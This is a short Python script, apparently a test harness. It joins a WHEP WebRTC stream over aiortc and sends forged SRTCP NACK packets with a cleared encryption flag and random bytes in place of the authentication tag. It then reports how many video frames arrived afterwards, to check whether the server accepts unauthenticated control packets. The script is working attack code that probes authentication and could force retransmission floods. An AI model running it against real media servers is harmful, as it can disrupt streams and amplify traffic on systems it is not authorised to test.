#!/usr/bin/env python3
"""A subscriber on another WebRTC stack (aiortc) that offers only AES-CM SRTP, playing a stream
over WHEP; once the stream's video arrives, something at its address sends COUNT SRTCP packets
it did not seal: NACKs for the video it receives, each asking for 17 packets, with the SRTCP E
flag clear (RFC 3711 3.4: "not encrypted") and ten bytes that are no tag, one every 5 ms, on
the connection's own path. Then it keeps playing for a second. Prints one line of JSON: what it
sent, and the video frames received after.

usage: srtcp_forge.py WHEP_URL TOKEN COUNT
"""

import asyncio
import json
import os
import random
import struct
import sys

import aiortc.rtcdtlstransport as dtls

from whep_play import play

# AES-CM alone: the profile whose unencrypted SRTCP a receiver must still authenticate.
dtls.SRTP_PROFILES[:] = [p for p in dtls.SRTP_PROFILES if p.openssl_profile == b"SRTP_AES128_CM_SHA1_80"]


def forged_nack(media_ssrc, index):
    """An RTCP generic NACK (RFC 4585 6.2.1) for 17 packets as SRTCP that says it is not
    encrypted, with no real tag."""
    sender = random.getrandbits(32)
    rtcp = struct.pack("!BBHIIHH", 0x81, 205, 3, sender, media_ssrc, index % 65536, 0xFFFF)
    return rtcp + struct.pack("!I", index & 0x7FFFFFFF) + os.urandom(10)


async def main():
    url, token, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    playing = await play(url, token)
    if playing is None:
        return
    pc, receiver, ssrc, _answer, received = playing
    ice = receiver.transport.transport
    before = received["frames"]
    for i in range(count):
        await ice._send(forged_nack(ssrc, 1_000_000 + i))
        await asyncio.sleep(0.005)
    await asyncio.sleep(1)
    print(json.dumps({"sent": count, "framesBefore": before,
                      "framesAfter": received["frames"] - before}), flush=True)
    await pc.close()


asyncio.run(main())
